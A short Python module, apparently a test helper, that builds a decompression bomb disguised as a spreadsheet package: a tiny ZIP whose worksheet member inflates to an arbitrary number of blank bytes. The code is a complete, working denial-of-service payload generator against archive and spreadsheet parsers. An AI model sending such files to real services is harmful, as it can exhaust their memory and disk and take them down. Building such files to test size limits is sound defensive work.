"""Small files that say far more than they hold."""

import struct
import zlib

_BLOCK = 16 << 20


def zip_bomb(size: int, member: str = "xl/worksheets/sheet1.xml") -> bytes:
    """A package whose sheet unpacks to `size` bytes of blanks; one deflated block, said again."""
    deflating = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflating.compress(b" " * _BLOCK) + deflating.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = block * (size // _BLOCK) + last.compress(b" ") + last.flush()
    files = [
        (b"xl/workbook.xml", b"<workbook/>", 0, 11),
        (member.encode(), body, 8, min(size, 0xFFFF_FFFE)),
    ]
    content, directory = b"", b""
    for name, stored, method, unpacked in files:
        crc = zlib.crc32(stored) if method == 0 else 0
        common = struct.pack(
            "<HHHHHIIIHH", 20, 0, method, 0, 0x21, crc, len(stored), unpacked, len(name), 0
        )
        directory += (
            b"PK\x01\x02"
            + b"\x14\0"
            + common
            + struct.pack("<HHHII", 0, 0, 0, 0, len(content))
            + name
        )
        content += b"PK\x03\x04" + common + name + stored
    end = struct.pack("<HHHHIIH", 0, 0, 2, 2, len(directory), len(content), 0)
    return content + directory + b"PK\x05\x06" + end
